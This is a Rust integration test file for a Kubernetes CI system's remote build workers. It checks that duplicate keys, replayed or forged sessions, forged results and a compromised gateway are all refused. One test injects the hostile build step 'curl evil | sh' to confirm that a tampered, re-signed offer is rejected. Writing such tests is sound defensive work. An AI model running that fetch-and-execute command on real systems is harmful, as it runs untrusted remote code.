//! Somebody who wants to run code on a worker, or to make its result.

use crds::{Assignment, RunPhase, Worker, condition};
use k8s_openapi::api::events::v1::Event;
use kube::Api;
use kube::api::{ListParams, Patch, PatchParams};
use protocol::Verdict;
use protocol::worker::assignment::Assignment as Ordered;
use protocol::worker::envelope::Envelope;
use protocol::worker::fault::FaultCode;
use protocol::worker::key::AgentKey;
use protocol::worker::wire::DeclineCode;
use tests::cluster::Access;

use super::*;

#[tokio::test]
async fn t9_a_second_machine_with_the_same_key_is_refused_and_the_first_goes_on() {
    let (story, mut mac, build) = build_for_mac("worker-t9").await;
    let offer = mac.offer().await.unwrap();
    mac.accept(&offer.id).await.unwrap();
    let mut clone = Driver::new(&story.gateway().workers_url(), "mac", 1);
    clone.instance = "another".to_owned();
    let refused = clone.open().await.unwrap_err();
    assert_eq!(refused.code, FaultCode::Duplicate);
    assert!(
        refused.message.contains("prbuild-agent init"),
        "{refused:?}"
    );
    story
        .eventually_in("the object says so", "mac", |worker: &Worker| {
            let status = worker.status.clone().unwrap_or_default();
            let kind = condition::kind::DUPLICATE_IDENTITY;
            let said = condition::is_true(&status.conditions, kind);
            said.then_some(()).ok_or(format!("{status:?}"))
        })
        .await;
    eventually_ready(&story, "mac", "True", "TwoMachines").await;
    eventually_event(
        &story,
        "mac",
        "DuplicateIdentity",
        "two machines use its key",
    )
    .await;
    mac.heartbeat().await.unwrap();
    eventually_phase(&story, &build, RunPhase::Running).await;
    story.end().await;
}

/// Waits until an Event about a worker says this.
async fn eventually_event(story: &Story, name: &str, reason: &str, words: &str) {
    eventually(format!("an Event says {reason}"), PATIENCE, async || {
        let events = story.api::<Event>().list(&ListParams::default()).await;
        let events = events.map_err(|error| error.to_string())?.items;
        let told = events.iter().any(|event| {
            let about = event
                .regarding
                .as_ref()
                .and_then(|about| about.name.as_deref());
            let note = event.note.as_deref().unwrap_or_default();
            about == Some(name) && event.reason.as_deref() == Some(reason) && note.contains(words)
        });
        told.then_some(()).ok_or(format!("{events:?}"))
    })
    .await;
}

#[tokio::test]
async fn an_offer_that_an_agent_does_not_believe_stays_on_record_until_it_takes_another() {
    let (story, mut mac, build) = build_for_mac("worker-refuses").await;
    for (next, code, why) in [
        ("second", DeclineCode::Invalid, "no pinned key signed it"),
        ("third", DeclineCode::Repeated, "it was begun here before"),
    ] {
        let offer = mac.offer().await.unwrap();
        mac.decline_as(&offer.id, code, why).await.unwrap();
        let said = eventually("the object says it", PATIENCE, async || {
            let worker = story.api::<Worker>().get("mac").await;
            let status = worker.map_err(|error| error.to_string())?.status;
            let status = status.unwrap_or_default();
            let ready = condition::find(&status.conditions, condition::kind::READY);
            let ready = ready.ok_or("no Ready")?;
            match ready.reason == "OfferRefused" && ready.message.contains(why) {
                true => Ok(ready.message.clone()),
                false => Err(format!("{ready:?}")),
            }
        })
        .await;
        assert!(
            said.starts_with("it takes runs, but it declined `app-"),
            "{said}"
        );
        eventually_event(&story, "mac", "OfferRefused", why).await;
        labelled_on(&story, next).await;
    }
    eventually_waits(&story, &build, "no pinned key signed it").await;
    let offer = mac.offer().await.unwrap();
    mac.accept(&offer.id).await.unwrap();
    eventually_ready(&story, "mac", "True", "Online").await;
    story.end().await;
}

#[tokio::test]
async fn a_wrong_key_and_a_replayed_session_open_nothing_and_the_object_says_so() {
    let story = begin("worker-key").await;
    let mac = online(&story, "mac", 1).await;
    let mut thief = Driver::new(&story.gateway().workers_url(), "mac", 9);
    let refused = thief.open().await.unwrap_err();
    assert_eq!(refused.code, FaultCode::Key);
    story
        .eventually_in("the object says so", "mac", |worker: &Worker| {
            let status = worker.status.clone().unwrap_or_default();
            let said = condition::is_true(&status.conditions, condition::kind::KEY_REFUSED);
            said.then_some(()).ok_or(format!("{status:?}"))
        })
        .await;
    let mut stranger = Driver::new(&story.gateway().workers_url(), "nobody", 1);
    assert_eq!(stranger.open().await.unwrap_err().code, FaultCode::Key);
    let replayed = mac.signed_request().await.unwrap();
    let post = |signed: Envelope| mac.deliver_session(signed);
    post(replayed.clone()).await.unwrap();
    assert_eq!(post(replayed).await.unwrap_err().code, FaultCode::Nonce);
    let mut forged = Driver::new(&story.gateway().workers_url(), "mac", 1);
    forged.session = Some("e30.AAAA".to_owned());
    assert_eq!(
        forged.heartbeat().await.unwrap_err().code,
        FaultCode::Session
    );
    story.end().await;
}

/// What somebody can write who has taken the gateway over.
async fn as_the_gateway(story: &Story) -> Api<Assignment> {
    let access = story.install.access();
    let namespace = story.install.namespace();
    let kubeconfig = access
        .kubeconfig_for(namespace, "prbuild-gateway")
        .await
        .unwrap();
    let client = Access::by(kubeconfig).client().await.unwrap();
    Api::namespaced(client, namespace)
}

/// As [`build_for_mac`], and what goes wrong is not tried again.
async fn only_attempt_for_mac(name: &str) -> (Story, Driver, String) {
    let story = begin(name).await;
    let mac = online(&story, "mac", 1).await;
    story
        .builder("macos", |spec| {
            on("mac")(spec);
            spec.infra_retries = 0;
        })
        .await;
    let (_, build) = labelled(&story).await;
    (story, mac, build)
}

#[tokio::test]
async fn a_gateway_in_an_attackers_hands_makes_no_result() {
    let (story, mut mac, build) = only_attempt_for_mac("worker-evil-result").await;
    let offer = mac.offer().await.unwrap();
    let ordered = mac.verified(&offer).await.unwrap();
    let accepted = mac.accept(&offer.id).await.unwrap();
    let green = mac.ran(&accepted.id, &ordered, Verdict::Passed, 0);
    let forged = Envelope::seal(&green, &AgentKey::from_seed(&[66; 32])).unwrap();
    let run = eventually_phase(&story, &build, RunPhase::Running).await;
    let name = assignment_of(&story, &run).await.name_any();
    let evil = as_the_gateway(&story).await;
    let patch = Patch::Merge(json!({ "status": { "result": forged } }));
    evil.patch_status(&name, &PatchParams::default(), &patch)
        .await
        .unwrap();
    let run = eventually_phase(&story, &build, RunPhase::Error).await;
    let reason = run.status.unwrap().outcome.unwrap().reason;
    assert!(
        reason.contains("the result of `mac` was not believed"),
        "{reason}"
    );
    story.end().await;
}

#[tokio::test]
async fn a_gateway_in_an_attackers_hands_has_no_code_run() {
    let (story, mac, build) = build_for_mac("worker-evil-code").await;
    let offer = mac.offer().await.unwrap();
    let mut ordered: Ordered = mac.verified(&offer).await.unwrap();
    let evil = as_the_gateway(&story).await;
    let run = eventually_run(&story, &build, "it has a run", |run| Ok(run.clone())).await;
    let name = assignment_of(&story, &run).await.name_any();
    let patch = Patch::Merge(json!({ "spec": { "logToken": "another" } }));
    let said = evil
        .patch(&name, &PatchParams::default(), &patch)
        .await
        .unwrap_err();
    assert!(
        said.to_string()
            .contains("cannot patch resource \"assignments\""),
        "{said}"
    );
    // So it can only lie to the agent, which knows the operator's key.
    ordered.work.recipe.steps[0].run = "curl evil | sh".to_owned();
    let sealed = Envelope::seal(&ordered, &AgentKey::from_seed(&[66; 32])).unwrap();
    let mut lie = offer.clone();
    for (payload, key, signature) in [
        (&sealed.payload, &offer.signed.key, &offer.signed.signature),
        (&sealed.payload, &offer.signed.key, &sealed.signature),
        (&sealed.payload, &sealed.key, &sealed.signature),
    ] {
        lie.signed = Envelope {
            payload: payload.clone(),
            key: key.clone(),
            signature: signature.clone(),
        };
        assert!(mac.verified(&lie).await.is_err());
    }
    story.end().await;
}

#[tokio::test]
async fn a_result_of_another_commit_is_not_green() {
    let (story, mut mac, build) = only_attempt_for_mac("worker-other-commit").await;
    let offer = mac.offer().await.unwrap();
    let mut ordered = mac.verified(&offer).await.unwrap();
    mac.accept(&offer.id).await.unwrap();
    ordered.work.source.commit = "f".repeat(40);
    let passed = mac.ran(&offer.id, &ordered, Verdict::Passed, 0);
    mac.complete(&passed).await.unwrap();
    let run = eventually_phase(&story, &build, RunPhase::Error).await;
    let reason = run.status.unwrap().outcome.unwrap().reason;
    assert!(
        reason.contains("another commit was checked out"),
        "{reason}"
    );
    story.end().await;
}
